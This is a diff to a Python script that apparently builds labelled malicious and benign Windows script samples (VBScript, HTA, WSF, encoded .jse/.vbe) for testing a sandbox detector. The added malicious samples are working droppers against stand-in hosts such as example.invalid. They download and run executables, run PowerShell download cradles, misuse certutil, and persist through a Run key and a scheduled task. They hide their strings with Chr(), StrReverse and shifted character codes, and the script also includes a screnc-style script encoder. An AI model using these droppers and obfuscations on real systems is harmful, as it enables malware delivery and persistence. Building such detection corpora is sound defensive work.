@@ -9,6 +9,7 @@ import os
 import sys
 
 mal, ben = sys.argv[1], sys.argv[2]
+hta = sys.argv[3] if len(sys.argv) > 3 else ben  # benign HTAs
 manifest = []
 
 
@@ -143,24 +144,213 @@ if (x.status == 200 || true) {
 }
 """, ["T1105", "T1059.007"])
 
-# 12. VBScript: box-js has no VBScript engine
+# VBScript (translated to JScript by data/wsh-vbs.js inside the sandbox, then run in box-js).
+# 12. plain: XMLHTTP, ADODB.Stream with a With block, Run of the saved file
 dropper("loader.vbs", """Set x = CreateObject("MSXML2.XMLHTTP")
 x.Open "GET", "http://example.invalid/v.exe", False
 x.Send
 Set s = CreateObject("ADODB.Stream")
-s.Open : s.Type = 1 : s.Write x.ResponseBody
-s.SaveToFile "C:\\Users\\Public\\v.exe", 2
+With s
+  .Open : .Type = 1 : .Write x.ResponseBody
+  .SaveToFile "C:\\Users\\Public\\v.exe", 2
+End With
 CreateObject("WScript.Shell").Run "C:\\Users\\Public\\v.exe", 0
-""", ["T1105"], kind="vbs")
+""", ["T1105", "T1059.005", "T1204.002"], kind="vbs")
 
-# 13. HTA with VBScript
+# 13. HTA with VBScript: a PowerShell download cradle
 dropper("vbs.hta", """<html><head><HTA:APPLICATION WINDOWSTATE="minimize"/>
 <script language="VBScript">
 Set sh = CreateObject("WScript.Shell")
 sh.Run "powershell -c iwr http://example.invalid/h.exe -OutFile h.exe; .\\h.exe", 0
 self.close
 </script></head><body></body></html>
-""", ["T1105"], kind="vbs")
+""", ["T1105", "T1059.005", "T1059.001"], kind="vbs")
+
+
+def vb_chrs(s):
+    return " & ".join("Chr(%d)" % ord(c) for c in s)
+
+
+VB_BODY = """Set h = CreateObject("WinHttp.WinHttpRequest.5.1")
+h.Open "GET", "http://example.invalid/c.exe", False
+h.Send
+Set st = CreateObject("ADODB.Stream")
+st.Type = 1 : st.Open : st.Write h.ResponseBody
+st.SaveToFile "C:\\ProgramData\\c.exe", 2
+CreateObject("WScript.Shell").Run "cmd /c C:\\ProgramData\\c.exe", 0, False"""
+
+# 14. the whole body in Execute of Chr() concatenations, line continuations, On Error
+chunks = [vb_chrs(line) + " & vbCrLf" for line in VB_BODY.split("\n")]
+dropper("chr.vbs", "On Error Resume Next\nDim p\np = \"\"\n" +
+        "".join("p = p & %s\n" % c for c in chunks) + "Execute p\n",
+        ["T1105", "T1059.005", "T1204.002", "T1059.003"], kind="vbs")
+
+# 15. a Run key and a payload, names from StrReverse and Replace
+dropper("runkey.vbs", """Option Explicit
+Dim sh, x, s, u
+u = StrReverse("exe.tsohcvs/dilavni.elpmaxe//:ptth")
+Set x = CreateObject(Replace("MSXML2.XM#HTTP", "#", "L"))
+x.Open "GET", u, False
+x.Send
+Set s = CreateObject(StrReverse("maertS.BDODA"))
+s.Type = 1
+s.Open
+s.Write x.ResponseBody
+s.SaveToFile "C:\\Users\\Public\\svchost.exe", 2
+s.Close
+Set sh = CreateObject("WScript.Shell")
+sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", "C:\\Users\\Public\\svchost.exe", "REG_SZ"
+""", ["T1105", "T1059.005", "T1547.001"], kind="vbs")
+
+# 16. WSF with VBScript: Split/Join, a Function, certutil through cmd with Exec
+dropper("cert.wsf", """<?xml version="1.0"?>
+<job id="u"><script language="VBScript"><![CDATA[
+Function Build(parts)
+  Build = Join(parts, "")
+End Function
+Dim a
+a = Split("cmd /c cer|tutil -urlca|che -split -f http://example.invalid/k.exe %TEMP%\\k.exe", "|")
+Set sh = WScript.CreateObject("WScript.Shell")
+Set e = sh.Exec(Build(a))
+]]></script></job>
+""", ["T1105", "T1059.005", "T1059.003"], kind="vbs")
+
+# 17. a scheduled task running PowerShell, quotes doubled, a Sub
+dropper("task.vbs", '''Sub Persist(cmd)
+  CreateObject("WScript.Shell").Run "schtasks /create /f /sc minute /mo 30 /tn ""OneDrive Sync"" /tr """ & cmd & """", 0, True
+End Sub
+Persist "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/t.ps1')"
+''', ["T1105", "T1059.005", "T1053.005", "T1059.001"], kind="vbs")
+
+# 18. char codes shifted by one in an array, decoded in a For loop, Select Case, Call
+dropper("shift.vbs", """Dim k, i, url, o
+k = Array(%s)
+For i = 0 To UBound(k)
+  url = url & Chr(k(i) - 1)
+Next
+Function Pick(n)
+  Select Case n
+    Case 1
+      Pick = "MSXML2.ServerXMLHTTP"
+    Case 2
+      Pick = "ADODB.Stream"
+    Case Else
+      Pick = "WScript.Shell"
+  End Select
+End Function
+Set o = CreateObject(Pick(1))
+o.Open "GET", url, False
+o.Send
+If o.Status = 200 Or True Then
+  Set f = CreateObject(Pick(2))
+  f.Open
+  f.Type = 1
+  f.Write o.ResponseBody
+  f.SaveToFile "C:\\Users\\Public\\s.exe", 2
+End If
+Call CreateObject(Pick(3)).Run("C:\\Users\\Public\\s.exe", 0)
+""" % ", ".join(str(ord(c) + 1) for c in "http://127.0.0.1:9/s.exe"),
+        ["T1105", "T1059.005", "T1204.002"], kind="vbs")
+
+# 19. HTA whose VBScript runs ExecuteGlobal of a reversed body
+body19 = 'CreateObject("WScript.Shell").Run "mshta http://example.invalid/x.hta", 0'
+dropper("global.hta", """<html><head><title>Update</title><hta:application showintaskbar="no"/>
+<script language="VBScript">
+Dim b
+b = "%s"
+ExecuteGlobal StrReverse(b)
+window.close
+</script></head></html>
+""" % body19[::-1].replace('"', '""'), ["T1105", "T1059.005"], kind="vbs")
+
+# JScript.Encode / VBScript.Encode (screnc.exe's format), written by this encoder: each
+# ASCII character through one of three substitution tables chosen by its position mod 64;
+# LF, CR, <, >, @ escaped; length and checksum as 32-bit little-endian base64.
+ENC_TABLES = [
+    "dP\"Ja^][B`#e_~ORz!F &c*vG%,)i?'?g?bAZf2sMCq9|SH1rnpI?Kj.\x7f(5}$-T7{=l4mN+0otkL3V:xWw;D/YE\\h6Xy\tu8UQ",
+    "7~ZE:yY'vcbMQSR &Tq+f*X\x7f{01lI?x?_?)$/93o!u(BFJ\\H6K}]jPi#\tpet,wD?m|C8^[nWL4r%VshUG25.dO;-Aaz\"`kN=g",
+    "i,er[fuLEv*C3B cJZ8y2Wl+FRO=p?{?Q?z~;GAwV_&xndtg}h5\"U:`jqoI\\]'Y%|#m(19\x7f6T4bN0^s\tKa$MkD!7SXH.P-)?/",
+]
+ENC_PICK = [int(c) for c in "1201202002021020102011200210200211020201011201021020112001120102"]
+ENC_ESC = {"\n": "@&", "\r": "@#", ">": "@*", "<": "@!", "@": "@$"}
+
+
+def b64num(v):
+    import base64
+    return base64.b64encode(v.to_bytes(4, "little")).decode()
+
+
+def screnc(text):
+    body, total = "", 0
+    for m, c in enumerate(text):
+        if c in ENC_ESC:
+            body += ENC_ESC[c]
+        else:
+            body += ENC_TABLES[ENC_PICK[m % 64]][0 if c == "\t" else ord(c) - 31]
+        total += ord(c)
+    return "#@~^" + b64num(len(body)) + body + b64num(total & 0xffffffff) + "^#~@"
+
+
+def encoded(name, text, ids, kind="js"):
+    with open(os.path.join(mal, name), "w", newline="") as f:
+        f.write(screnc(text.replace("\n", "\r\n")))
+    manifest.append("%s %s %s" % (name, kind, ",".join(ids)))
+
+
+# 20. .jse: the plain dropper, encoded
+encoded("invoice.jse", FETCH_SAVE_RUN % dict(
+    xhr='"MSXML2.XMLHTTP"', url='"http://example.invalid/e.exe"', stream='"ADODB.Stream"',
+    path='"C:\\\\Users\\\\Public\\\\e.exe"', shell='"WScript.Shell"', run="Run",
+    cmd='"C:\\\\Users\\\\Public\\\\e.exe"'), ["T1105", "T1059.007", "T1204.002"])
+
+# 21. .vbe: a VBScript dropper, encoded
+encoded("order.vbe", VB_BODY + "\n", ["T1105", "T1059.005", "T1204.002", "T1059.003"], kind="vbs")
+
+# 22. HTA with an encoded VBScript block
+dropper("encoded.hta", """<html><head><hta:application windowstate="minimize"/>
+<script language="VBScript.Encode">%s</script></head><body></body></html>
+""" % screnc('Set s = CreateObject("WScript.Shell")\r\ns.Run "powershell -w hidden -c iwr http://example.invalid/q.exe -OutFile $env:TEMP\\q.exe", 0\r\n'),
+        ["T1105", "T1059.005", "T1059.001"], kind="vbs")
+
+# Benign VBScript: a log file, a sum, a Select Case, a Dictionary, string handling.
+write(ben, "log.vbs", """Option Explicit
+Dim fso, f
+Set fso = CreateObject("Scripting.FileSystemObject")
+Set f = fso.OpenTextFile("C:\\Users\\Public\\backup.log", 8, True)
+f.WriteLine "backup finished: " & Now
+f.Close
+""")
+write(ben, "sum.vbs", """Dim i, total
+total = 0
+For i = 1 To 100
+  total = total + i
+Next
+WScript.Echo "sum: " & total
+""")
+write(ben, "weekday.vbs", """Function DayName(n)
+  Select Case n
+    Case 1: DayName = "Sunday"
+    Case 7: DayName = "Saturday"
+    Case Else: DayName = "a weekday"
+  End Select
+End Function
+WScript.Echo DayName(3)
+""")
+write(ben, "count.vbs", """Set d = CreateObject("Scripting.Dictionary")
+d.Add "a", 0 : d.Add "b", 0
+words = Split("a b a b a", " ")
+For Each w In words
+  d.Item(w) = d.Item(w) + 1
+Next
+WScript.Echo "a: " & d.Item("a") & ", b: " & d.Item("b")
+""")
+write(ben, "names.wsf", """<?xml version="1.0"?>
+<job id="names"><script language="VBScript">
+Dim n
+n = UCase(Left("alice", 1)) & Mid("alice", 2)
+MsgBox "Hello " & n, 64, "Names"
+</script></job>
+""")
 
 # Benign Windows scripts: arithmetic, argument handling, text, dates, a read of a file.
 write(ben, "sum.js", """
@@ -210,7 +400,25 @@ var s = 0; for (var i = 0; i < rows.length; i++) s += rows[i][2];
 WScript.Echo("total " + s);
 ]]></script></job>
 """)
-# (no benign .hta: the static rule html_application flags every HTA file, whatever it does)
+# Benign HTAs: being an HTA is worth a look (html_application, suspicious), never malicious
+# without behaviour; detonate-wsh.sh checks them apart.
+write(hta, "clock.hta", """<html><head><title>Clock</title>
+<HTA:APPLICATION ID="clock" APPLICATIONNAME="Clock" BORDER="thin" SINGLEINSTANCE="yes"/>
+<script language="JScript">
+function pad(n) { return (n < 10 ? "0" : "") + n; }
+var d = new Date(2024, 5, 1, 9, 5, 0);
+var text = pad(d.getHours()) + ":" + pad(d.getMinutes());
+</script></head><body>Clock</body></html>
+""")
+write(hta, "log.hta", """<html><head><title>Log</title>
+<HTA:APPLICATION ID="log" APPLICATIONNAME="Logbook"/>
+<script language="JScript">
+var fso = new ActiveXObject("Scripting.FileSystemObject");
+var f = fso.CreateTextFile("C:\\Users\\Public\\logbook.txt", true);
+f.WriteLine("started " + new Date(2024, 0, 1).getFullYear());
+f.Close();
+</script></head><body>Logbook</body></html>
+""")
 write(ben, "inventory.wsf", """<?xml version="1.0"?>
 <package><job id="inventory"><script language="JScript"><![CDATA[
 var items = { disks: 2, printers: 1, monitors: 3 };
